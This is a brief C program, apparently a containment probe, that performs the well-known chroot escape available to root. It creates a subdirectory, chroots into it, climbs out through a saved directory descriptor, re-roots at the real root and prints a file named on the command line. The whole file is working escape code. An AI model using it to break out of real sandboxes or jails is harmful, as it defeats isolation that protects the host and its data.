/*
 * breakout PATH: leaves a chroot as root does (chroot(2), "a superuser can escape"): another chroot, below the working folder, which is
 * outside of it then and may be left upwards; prints the file that lies at PATH where the climb ends.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
  char text[256];
  int top = open("/", O_RDONLY | O_DIRECTORY);
  if (argc != 2 || top < 0) return 2;
  mkdir("/below", 0755);
  if (chroot("/below") < 0 || fchdir(top) < 0) {
    puts("refused");
    return 3;
  }
  for (int i = 0; i < 64; i++)
    if (chdir("..") < 0) return 2;
  if (chroot(".") < 0) return 2;
  int file = open(argv[1], O_RDONLY);
  ssize_t size = file < 0 ? -1 : read(file, text, sizeof text);
  if (size < 0) printf("climbed to a root without %s\n", argv[1]);
  else printf("climbed to %.*s\n", (int)size, text);
  return size < 0;
}
